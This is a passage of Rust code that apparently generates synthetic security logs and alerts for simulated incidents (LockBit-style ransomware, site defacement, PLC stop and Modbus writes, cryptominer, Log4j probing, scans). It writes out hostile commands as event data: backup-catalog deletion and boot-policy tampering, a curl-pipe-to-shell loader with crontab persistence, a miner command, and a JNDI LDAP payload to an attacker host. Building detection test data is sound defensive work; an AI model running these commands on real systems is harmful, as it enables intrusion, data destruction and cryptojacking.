        "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures",
        "wbadmin.exe delete catalog -quiet",
    ] {
        t += g.range(2 * SEC, 20 * SEC);
        let exe = if line.starts_with("bcd") {
            "C:\\Windows\\System32\\bcdedit.exe"
        } else {
            "C:\\Windows\\System32\\wbadmin.exe"
        };
        boot.push(win_process(
            g,
            o,
            org,
            victim,
            t,
            "Administrator",
            exe,
            line,
            payload,
        ));
    }
    alerts.push(g.alert(
        org,
        Some(v.asset),
        AlertSource::Sigma,
        SIGMA_BCDEDIT,
        "Boot Configuration Tampering Via Bcdedit.EXE".to_string(),
        Severity::High,
        "MPRANS",
        &boot[..2],
        t,
        json!({"host.name": v.host}),
    ));

    // Encryption of the file share over SMB.
    let (lo, hi) = s.len(200, 500, 80);
    let n_files = g.range(lo, hi);
    let folders: &[&str] = match o.profile {
        Profile::Hospital => &["病历归档", "医务科", "财务科", "检验科报告"],
        Profile::Pharma | Profile::Manufacturing => &["工艺文件", "质量部", "财务部", "生产计划"],
        _ => &["财务部", "综合办公室", "合同管理", "业务数据"],
    };
    let docs = [
        "2024年度预算.xlsx",
        "会议纪要.docx",
        "合同扫描件.pdf",
        "员工花名册.xlsx",
        "汇报材料.pptx",
        "报表.xls",
    ];
    let mut smb = Vec::with_capacity(n_files as usize);
    for i in 0..n_files {
        t += g.range(200_000, 3 * SEC);
        let folder = *g.pick(folders);
        let doc = *g.pick(&docs);
        let fname = format!("\\\\{}\\share\\{folder}\\{i:04}_{doc}.lockbit", fs.host);
        let sport = g.port();
        let flow = g.flow_id();
        let cmd_name = if i % 3 == 0 {
            "SMB2_COMMAND_SET_INFO"
        } else {
            "SMB2_COMMAND_WRITE"
        };
        let raw = format!(
            "{{\"timestamp\":\"{}\",\"flow_id\":{flow},\"event_type\":\"smb\",\"src_ip\":\"{}\",\"src_port\":{sport},\"dest_ip\":\"{}\",\"dest_port\":445,\"proto\":\"TCP\",\"smb\":{{\"dialect\":\"3.1.1\",\"command\":\"{cmd_name}\",\"status\":\"STATUS_SUCCESS\",\"filename\":\"{}\"}}}}",
            clock::eve(t),
            v.ip,
            fs.ip,
            fname.replace('\\', "\\\\")
        );
        let f = F::new("file", "smb-write", "suricata.eve")
            .outcome(true)
            .severity(3)
            .observer("ids", "OISF", "Suricata", format!("{}-ids01", o.slug))
            .ip("source.ip", v.ip)
            .n("source.port", sport)
            .ip("destination.ip", fs.ip)
            .n("destination.port", 445)
            .st("network.protocol", "smb")
            .s("file.path", fname.clone())
            .s("host.name", fs.host.clone())
            .st("user.name", "Administrator")
            .message(format!("{cmd_name} {fname} from {}", v.ip));
        smb.push(g.push(org, Some(fs.asset), t, f, raw));
    }
    t += g.range(5 * SEC, MIN);
    let note = edr_file(
        g,
        o,
        org,
        o.file_server,
        t,
        "D:\\share\\Restore-My-Files.txt",
        &g_hash(RANSOM_HASH),
        "System",
    );
    smb.push(note);
    alerts.push(g.alert(
        org,
        Some(fs.asset),
        AlertSource::Sigma,
        RULE_SMB_MASS_WRITE,
        format!(
            "短时间内大量SMB文件写入/重命名（疑似勒索加密）：{} → {}，{} 个文件",
            v.host, fs.host, n_files
        ),
        Severity::Critical,
        "MPRANS",
        &smb,
        t,
        json!({"source.ip": v.ip.to_string(), "destination.ip": fs.ip.to_string(), "files": n_files,
               "extension": ".lockbit"}),
    ));
    alerts.push(g.alert(
        org,
        Some(v.asset),
        AlertSource::Sigma,
        RULE_LATERAL_PSEXEC,
        format!(
            "疑似横向移动：{} 执行PowerShell编码命令并通过PsExec远程执行",
            v.host
        ),
        Severity::High,
        "MPRANS",
        &recon,
        start,
        json!({"host.name": v.host, "tools": ["powershell -enc", "PsExec64.exe", "net group"]}),
    ));
    g.story(
        StoryKind::Ransomware,
        org,
        format!("勒索软件攻击：{}，文件服务器 {} 遭加密", v.label, fs.host),
        start,
        first,
        alerts,
        vec![v.asset, fs.asset],
        ctx(&[
            ("source_ip", attacker.to_string()),
            ("host", v.host.clone()),
            ("file_server", fs.host.clone()),
            ("account", account),
            ("files", n_files.to_string()),
            ("family", "LockBit 3.0".to_string()),
        ]),
    );
}

fn g_hash(seed: &str) -> String {
    // A fixed, different hash for the ransom note.
    seed.chars().rev().collect()
}

fn defacement(g: &mut Gen, w: &World, org: usize, t0: i64) {
    let o = &w.orgs[org];
    let si = o
        .sites
        .iter()
        .position(|s| s.stack == Stack::Php)
        .unwrap_or(0);
    let Some(site) = o.sites.get(si).cloned() else {
        return;
    };
    let attacker = g.attacker_ip();
    let first = g.events.len();
    let ua = *g.pick(catalog::SHELL_UAS);
    let mut t = t0;
    let mut admin = Vec::new();
    for status in [200, 200, 302] {
        t += g.range(5 * SEC, 50 * SEC);
        admin.push(access_log(
            g,
            o,
            org,
            si,
            t,
            attacker,
            "POST",
            "/admin/login.php",
            status,
            ua,
        ));
    }
    t += g.range(MIN, 10 * MIN);
    admin.push(access_log(
        g,
        o,
        org,
        si,
        t,
        attacker,
        "POST",
        "/admin/template.php?action=save&file=index.html",
        200,
        ua,
    ));
    t += g.range(10 * SEC, MIN);
    admin.push(access_log(g, o, org, si, t, attacker, "GET", "/", 200, ua));
    let alert_login = g.alert(
        org,
        Some(site.asset),
        AlertSource::Web,
        "web:admin-login-anomalous-ip",
        format!(
            "网站后台遭异常IP登录：{attacker} 登录 {} 管理后台",
            site.domain
        ),
        Severity::Medium,
        "NAWEBMOD",
        &admin[..3],
        t,
        json!({"source.ip": attacker.to_string(), "url.path": "/admin/login.php"}),
    );

    let changed_at = t + g.range(20 * SEC, 2 * MIN);
    let restored_at = changed_at + g.range(2 * HOUR, 6 * HOUR);
    let defaced_hash = g.sha256();
    g.defaced
        .push(((org, si), changed_at, restored_at, defaced_hash.clone()));
    let mut checks = Vec::new();
    let mut tc = changed_at + g.range(MIN, 5 * MIN);
    while tc < restored_at + 30 * MIN && tc < g.now - MIN {
        checks.push(web_check(g, w, org, si, tc));
        tc += 5 * MIN + g.range(-10 * SEC, 10 * SEC);
    }
    let url = format!("https://{}/", site.domain);
    let mut alerts = vec![alert_login];
    if let Some(&c) = checks.first() {
        let mut ev = vec![c];
        ev.extend(&admin[3..]);
        alerts.push(g.alert(
            org,
            Some(site.asset),
            AlertSource::Web,
            "web:page-integrity",
            format!("网页篡改：{url} 首页内容发生变化（相似度 8%）"),
            Severity::Critical,
            "NAWEBMOD",
            &ev,
            changed_at,
            json!({"url.full": url, "baseline.sha256": site.page_hash, "current.sha256": defaced_hash,
                   "similarity": 0.08}),
        ));
        alerts.push(g.alert(
            org,
            Some(site.asset),
            AlertSource::Web,
            "web:sensitive-keyword",
            format!("网页出现篡改关键词“Hacked by”：{url}"),
            Severity::High,
            "NAWEBMOD",
            &[c],
            changed_at,
            json!({"url.full": url, "keywords": ["Hacked by", "黑客"]}),
        ));
    }
    g.story(
        StoryKind::Defacement,
        org,
        format!("{}首页被篡改：{}", site.label, site.domain),
        t0,
        first,
        alerts,
        vec![site.asset],
        ctx(&[
            ("source_ip", attacker.to_string()),
            ("domain", site.domain.clone()),
            (
                "defaced_minutes",
                ((restored_at - changed_at) / MIN).to_string(),
            ),
        ]),
    );
}

fn ics_intrusion(g: &mut Gen, w: &World, org: usize, t0: i64, variant: usize) {
    let o = &w.orgs[org];
    let Some(ics) = &o.ics else { return };
    let net = ics.net;
    let rogue = Ipv4Addr::new(net[0], net[1], net[2], g.range(251, 255) as u8);
    let first = g.events.len();
    let mut t = g.at_local_hours(t0, 2, 5);
    let start = t;
    let mac_tail = g.hex(6);
    let new_dev = ics_audit(
        g,
        o,
        org,
        t,
        None,
        rogue,
        Ipv4Addr::new(net[0], net[1], net[2], 255),
        "ARP",
        0,
        "new-device",
        &format!(
            "检测到未登记资产接入 ip={rogue} mac=00:0c:29:{}:{}:{}（VMware虚拟网卡） switch_port=GE0/0/17",
            &mac_tail[0..2],
            &mac_tail[2..4],
            &mac_tail[4..6]
        ),
        3,
    );
    let mut alerts = vec![g.alert(
        org,
        None,
        AlertSource::Sigma,
        RULE_ICS_NEW_DEVICE,
        format!("工控网络发现未登记设备接入：{rogue}"),
        Severity::Medium,
        "ROPNOUNAUTH",
        &[new_dev],
        t,
        json!({"source.ip": rogue.to_string(), "network": format!("{}.{}.{}.0/24", net[0], net[1], net[2])}),
    )];
    let s7 = ics.plcs.iter().find(|p| p.proto == "s7").cloned();
    let mb = ics.plcs.iter().find(|p| p.proto == "modbus").cloned();
    let mut assets = Vec::new();
    let mut target_label = String::new();
    // The first story stops a controller when it can; the second writes setpoints.
    let do_stop = s7.is_some() && (variant.is_multiple_of(2) || mb.is_none());
    if do_stop && let Some(plc) = s7.clone() {
        let p = o.node(plc.node).clone();
        assets.push(p.asset);
        target_label = p.label.clone();
        let mut ev = Vec::new();
        for detail in [
            "rosctr=Userdata func=0x44(SZL read) szl_id=0x0011 index=0x0000 result=OK",
            "rosctr=Userdata func=0x44(SZL read) szl_id=0x001c index=0x0000 result=OK",
            "rosctr=Job func=0x04(ReadVar) items=8 area=DB1 result=OK",
            "rosctr=Job func=0x1d(Start upload) block=OB1 result=OK",
        ] {
            t += g.range(3 * SEC, 60 * SEC);
            ev.push(ics_audit(
                g,
                o,
                org,
                t,
                Some(plc.node),
                rogue,
                p.ip,
                "S7COMM",
                102,
                "s7-request",
                detail,
                2,
            ));
        }
        t += g.range(MIN, 15 * MIN);
        let stop = ics_audit(
            g,
            o,
            org,
            t,
            Some(plc.node),
            rogue,
            p.ip,
            "S7COMM",
            102,
            "s7-plc-stop",
            "rosctr=Job func=0x29(PLC Stop) pi_service=P_PROGRAM result=OK",
            5,
        );
        t += g.range(SEC, 5 * SEC);
        let scada = ics.scada.first().copied().unwrap_or(ics.ews);
        let state = ics_audit(
            g,
            o,
            org,
            t,
            Some(plc.node),
            p.ip,
            o.node(scada).ip,
            "S7COMM",
            102,
            "plc-state-change",
            &format!("cpu_state RUN->STOP plc={} 告警：控制器停止运行", p.host),
            5,
        );
        let mut evidence = ev.clone();
        evidence.push(stop);
        evidence.push(state);
        alerts.push(g.alert(
            org,
            Some(p.asset),
            AlertSource::Sigma,
            RULE_ICS_PLC_STOP,
            format!(
                "非授权工程师站 {rogue} 向PLC {} 下发STOP指令（疑似利用S7协议无认证缺陷）",
                p.host
            ),
            Severity::Critical,
            "NAEXPLOIT",
            &evidence,
            t,
            json!({"source.ip": rogue.to_string(), "destination.ip": p.ip.to_string(),
                   "plc.model": plc.model, "s7.function": "0x29 PLC Stop"}),
        ));
    }
    if !do_stop && let Some(plc) = mb.or(s7) {
        let p = o.node(plc.node).clone();
        assets.push(p.asset);
        target_label = p.label.clone();
        let n = g.range(10, 30);
        let mut writes = Vec::new();
        for i in 0..n {
            t += g.range(2 * SEC, 40 * SEC);
            let (f, addr, value) = if i % 7 == 6 {
                (15, 100 + i, 1)
            } else {
                (6, 4000 + g.range(0, 12), g.range(0, 3000))
            };
            writes.push(modbus(g, o, org, t, rogue, plc.node, f, addr, value));
        }
        t += g.range(20 * SEC, 3 * MIN);
        let scada = ics.scada.first().copied().unwrap_or(ics.ews);
        let alarm = ics_audit(
            g,
            o,
            org,
            t,
            Some(scada),
            p.ip,
            o.node(scada).ip,
            "MODBUS",
            502,
            "process-alarm",
            "SCADA报警：2#泵出口压力超上限（1.32MPa > 1.10MPa），设定值被修改",
            4,
        );
        writes.push(alarm);
        alerts.push(g.alert(
            org,
            Some(p.asset),
            AlertSource::Sigma,
            RULE_ICS_MODBUS_WRITE,
            format!(
                "Modbus未授权写操作：{rogue} 写入 {} 保持寄存器 {n} 次",
                p.host
            ),
            Severity::High,
            "ROPNOUNAUTH",
            &writes,
            t,
            json!({"source.ip": rogue.to_string(), "destination.ip": p.ip.to_string(),
                   "modbus.function_codes": [6, 15], "writes": n}),
        ));
    }
    g.story(
        StoryKind::IcsUnauthorized,
        org,
        format!("工控网络非授权操作：{target_label}"),
        start,
        first,
        alerts,
        assets,
        ctx(&[
            ("source_ip", rogue.to_string()),
            ("target", target_label.clone()),
            ("action", if do_stop { "stop" } else { "write" }.to_string()),
        ]),
    );
}

fn miner(g: &mut Gen, w: &World, org: usize, t0: i64, hours: i64) {
    let o = &w.orgs[org];
    let candidates: Vec<usize> = o
        .linux
        .iter()
        .copied()
        .filter(|&n| n != o.jump && n != o.dns)
        .collect();
    let Some(&node) = candidates.get(g.range(0, candidates.len() as i64) as usize) else {
        return;
    };
    let n = o.node(node).clone();
    let attacker = g.attacker_ip();
    let pool_ip = g.attacker_ip();
    let first = g.events.len();
    let mut t = t0;
    let user = *g.pick(&["oracle", "test", "postgres"]);
    sshd(g, o, org, node, t, true, user, attacker, "password", n.ip);
    let miner_path = "/tmp/.X11-unix/kworkerds";
    let wallet = "4AtRd7Kq2pXv9sM3bN8cF1gH5jL6wE0yU2iO4aS7dZ9xC3vB1nM8kJ6hG5fD4sA2qW3eR7tY9uI0oP";
    let steps = [
        (
            "/usr/bin/curl",
            format!("curl -fsSL http://{attacker}/ldr.sh | sh"),
        ),
        ("/usr/bin/chmod", format!("chmod +x {miner_path}")),
        (
            miner_path,
            format!(
                "{miner_path} -o {}:3333 -u {wallet} -p x --donate-level 1 -B",
                catalog::MINING_POOL
            ),
        ),
        (
            "/usr/bin/crontab",
            format!(
                "(crontab -l; echo '*/10 * * * * curl -fsSL http://{attacker}/ldr.sh|sh') | crontab -"
            ),
        ),
    ];
    let mut procs = Vec::new();
    for (exe, line) in &steps {
        t += g.range(5 * SEC, 60 * SEC);
        procs.push(linux_exec(g, o, org, node, t, "root", exe, line, "bash"));
    }
    let mut dns = Vec::new();
    let end = t + hours * HOUR;
    while t < end && t < g.now - MIN {
        t += 10 * MIN + g.range(-20 * SEC, 20 * SEC);
        dns.push(dns_query(g, o, org, t, node, catalog::MINING_POOL));
        fw_event(
            g,
            o,
            org,
            Some(n.asset),
            t + 300_000,
            true,
            n.ip,
            pool_ip,
            3333,
            false,
        );
    }
    let mut alerts = vec![g.alert(
        org,
        Some(n.asset),
        AlertSource::Sigma,
        SIGMA_MINING,
        "Linux Crypto Mining Indicators".to_string(),
        Severity::High,
        "MPMINER",
        &procs[2..3],
        t0,
        json!({"host.name": n.host, "process.executable": miner_path}),
    )];
    if !dns.is_empty() {
        alerts.push(g.alert(
            org,
            Some(n.asset),
            AlertSource::Ioc,
            &format!("ioc:domain:{}", registrable(catalog::MINING_POOL)),
            format!("威胁情报命中：主机 {} 连接矿池域名 {}", n.host, catalog::MINING_POOL),
            Severity::High,
            "MPMINER",
            &dns[..dns.len().min(100)],
            t0,
            json!({"indicator": catalog::MINING_POOL, "indicator.type": "domain", "threat.family": "XMRig"}),
        ));
    }
    g.story(
        StoryKind::Cryptominer,
        org,
        format!("服务器被植入挖矿程序：{}", n.label),
        t0,
        first,
        alerts,
        vec![n.asset],
        ctx(&[
            ("source_ip", attacker.to_string()),
            ("host", n.host.clone()),
            ("user", user.to_string()),
            ("pool", catalog::MINING_POOL.to_string()),
        ]),
    );
}

fn log4j_probe(g: &mut Gen, w: &World, org: usize, t0: i64) {
    let o = &w.orgs[org];
    let sites: Vec<usize> = (0..o.sites.len())
        .filter(|&i| o.sites[i].stack == Stack::Java)
        .collect();
    let Some(&si) = sites.get(g.range(0, sites.len() as i64) as usize) else {
        return;
    };
    let site = o.sites[si].clone();
    let attacker = g.attacker_ip();
    let first = g.events.len();
    let payload = format!(
        "${{jndi:ldap://{attacker}:1389/Basic/Command/Base64/d2dldCBodHRwOi8v{}}}",
        g.hex(8)
    );
    let mut t = t0;
    let mut ev = Vec::new();
    for i in 0..g.range(1, 4) {
        t += g.range(SEC, 30 * SEC);
        let (path, ua) = if i % 2 == 0 {
            ("/".to_string(), payload.clone())
        } else {
            (
                format!("/login?username={}", payload.replace(' ', "%20")),
                catalog::BROWSER_UAS[0].to_string(),
            )
        };
        let status = if site.log4j { 200 } else { 400 };
        ev.push(access_log(
            g, o, org, si, t, attacker, "GET", &path, status, &ua,
        ));
    }
    let srv = o.node(site.server).clone();
    t += g.range(200_000, 2 * SEC);
    ev.push(fw_event(
        g,
        o,
        org,
        Some(srv.asset),
        t,
        false,
        srv.ip,
        attacker,
        1389,
        false,
    ));
    let a = g.alert(
        org,
        Some(site.asset),
        AlertSource::Sigma,
        SIGMA_LOG4J,
        "Log4j RCE CVE-2021-44228 Generic".to_string(),
        Severity::Medium,
        "NAEXPLOIT",
        &ev,
        t0,
        json!({"source.ip": attacker.to_string(), "url.domain": site.domain, "cve": "CVE-2021-44228",
               "vulnerable_component_present": site.log4j, "outbound_ldap_blocked": true}),
    );
    g.story(
        StoryKind::Log4jProbe,
        org,
        format!("Log4j2漏洞利用尝试：{}", site.domain),
        t0,
        first,
        vec![a],
        vec![site.asset],
        ctx(&[
            ("source_ip", attacker.to_string()),
            ("domain", site.domain.clone()),
            ("vulnerable", site.log4j.to_string()),
        ]),
    );
}

fn scans(g: &mut Gen, w: &World, n: usize, s: Scale) {
    // A third of the scans come in a three-day wave (a newly published exploit), the rest
    // are spread out.
    let span = g.now - g.start;
    let wave_start = g.start + span * 55 / 100;
    let wave_len = (3 * clock::DAY).min(span / 5).max(HOUR);
    let mut cum = Vec::new();
    let mut total = 0.0;
    for o in &w.orgs {
        total += o.weight;
        cum.push(total);
    }
    for i in 0..n {
        let t0 = if i % 3 == 0 {
            wave_start + g.range(0, wave_len)
        } else {
            g.slot(i, n, 10 * MIN)
        };
        let u = g.rng_f64() * total;
        let org = cum.partition_point(|&c| c <= u).min(w.orgs.len() - 1);
        let o = &w.orgs[org];
        let scanner = g.attacker_ip();
        let (sid, sig, port) = *g.pick(catalog::SCAN_SIGS);
        let (lo, hi) = s.len(10, 40, 6);
        let m = g.range(lo, hi);
        let first = g.events.len();
        let mut t = t0;
        let mut ev = Vec::new();
        for _ in 0..m {
            t += g.range(100_000, 8 * SEC);
            let dst = *g.pick(&o.public_ips);
            let dport = if port == 0 {
                *g.pick(&[
                    21, 22, 23, 80, 443, 445, 1433, 3306, 3389, 5432, 6379, 8080, 9200,
                ])
            } else {
                i64::from(port)
            };
            let sport = g.port();
            let flow = g.flow_id();
            let raw = format!(
                "{{\"timestamp\":\"{}\",\"flow_id\":{flow},\"in_iface\":\"ens192\",\"event_type\":\"alert\",\"src_ip\":\"{scanner}\",\"src_port\":{sport},\"dest_ip\":\"{dst}\",\"dest_port\":{dport},\"proto\":\"TCP\",\"alert\":{{\"action\":\"allowed\",\"gid\":1,\"signature_id\":{sid},\"rev\":3,\"signature\":\"{sig}\",\"category\":\"Attempted Information Leak\",\"severity\":2}}}}",
                clock::eve(t)
            );
            let f = F::new("intrusion_detection", "ids-alert", "suricata.eve")
                .st("event.kind", "alert")
                .outcome(true)
                .severity(2)
                .observer("ids", "OISF", "Suricata", format!("{}-ids01", o.slug))
                .ip("source.ip", scanner)
                .n("source.port", sport)
                .ip("destination.ip", dst)
                .n("destination.port", dport)
                .st("network.transport", "tcp")
                .s("rule.name", sig)
                .n("rule.id", i64::from(sid))
                .message(format!("{sig} {scanner} -> {dst}:{dport}"));
            ev.push(g.push(org, Some(o.fw_asset), t, f, raw));
        }
        let (source, rule, title, sev) = if g.chance(0.5) {
            (
                AlertSource::Ioc,
                format!("ioc:ip:{scanner}"),
                format!("威胁情报命中：已知扫描器IP {scanner} 对互联网出口开展探测"),
                Severity::Low,
            )
        } else {
            (
                AlertSource::Sigma,
                RULE_PORT_SCAN.to_string(),
                format!("端口扫描：{scanner} 探测 {m} 次（{sig}）"),
                if g.chance(0.3) {
                    Severity::Info
                } else {
                    Severity::Low
                },
            )
        };
        let a = g.alert(
            org,
            Some(o.fw_asset),
            source,
            &rule,
            title,
            sev,
            "NASCAN",
            &ev,
            t0,
            json!({"source.ip": scanner.to_string(), "signature": sig, "signature_id": sid,
                   "probes": m, "severity_num": sev_num(sev)}),
        );
        g.story(
            StoryKind::Scan,
            org,
            format!("境外扫描探测：{scanner}"),
            t0,
            first,
            vec![a],
            vec![],
            ctx(&[
                ("source_ip", scanner.to_string()),
                ("signature", sig.to_string()),
            ]),
        );
    }
}

/// Known-vulnerable components found in asset inventories: (component, version, CVE, CVSS).
const VULNS: &[(&str, &str, &str, f64)] = &[
    ("log4j-core", "2.14.1", "CVE-2021-44228", 10.0),
    ("shiro-core", "1.2.4", "CVE-2016-4437", 9.8),
    ("fastjson", "1.2.47", "CVE-2022-25845", 8.1),
    (
        "Oracle WebLogic Server",
        "12.2.1.3.0",
        "CVE-2020-14882",
        9.8,
    ),
    ("ThinkPHP", "5.0.23", "CVE-2018-20062", 9.8),
    ("通达OA", "11.7", "CVE-2021-36420", 7.5),
];

fn vulnerabilities(g: &mut Gen, w: &World, n: usize) {
    let mut found: Vec<(usize, usize, usize)> = Vec::new(); // (org, asset, vuln)
    for (ai, a) in w.assets.iter().enumerate() {
        let Some(org) = crate::planned_org_index(a.org_id) else {
            continue;
        };
        for sc in &a.software {
            if let Some(vi) = VULNS
                .iter()
                .position(|v| v.0 == sc.name && Some(v.1) == sc.version.as_deref())
            {
                found.push((org, ai, vi));
            }
        }
    }
    if found.is_empty() {
        return;
    }
    // Weekly scans: the 3rd, 10th, 17th... day of the window at 03:00 local.
    let mut scan_days = Vec::new();
    let mut d = g.start + 2 * clock::DAY;
    while d < g.now - HOUR {
        scan_days.push(clock::local_midnight(d) + 3 * HOUR);
        d += 7 * clock::DAY;
    }
    if scan_days.is_empty() {
        scan_days.push(g.start + (g.now - g.start) / 2);
    }
    for _ in 0..n.min(found.len()) {
        let k = g.range(0, found.len() as i64) as usize;
        let (org, ai, vi) = found.swap_remove(k);
        let (comp, ver, cve, cvss) = VULNS[vi];
        let at = *g.pick(&scan_days) + g.range(0, 40 * MIN);
        let asset = &w.assets[ai];
        let sev = if cvss >= 9.0 {
            Severity::Critical
        } else {
            Severity::High
        };
        let a = g.alert(
            org,
            Some(ai),
            AlertSource::Vuln,
            &format!("vuln:{cve}"),
            format!("资产存在高危漏洞：{cve}（{comp} {ver}）— {}", asset.name),
            sev,
            "SHEVULN",
            &[],
            at,
            json!({"cve": cve, "cvss": cvss, "component": comp, "version": ver,
                   "scanner": "vigil-vulnscan", "asset": asset.name}),
        );
        let first = g.events.len();
        g.story(
            StoryKind::Vulnerability,
            org,
            format!("{cve} {comp} {ver}"),
            at,
            first,
            vec![a],
            vec![ai],
            ctx(&[("cve", cve.to_string()), ("component", comp.to_string())]),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn registrable_domain_is_the_last_two_labels() {
        assert_eq!(registrable("update.evil-c2.example"), "evil-c2.example");
        assert_eq!(registrable("evil-c2.example"), "evil-c2.example");
    }
}
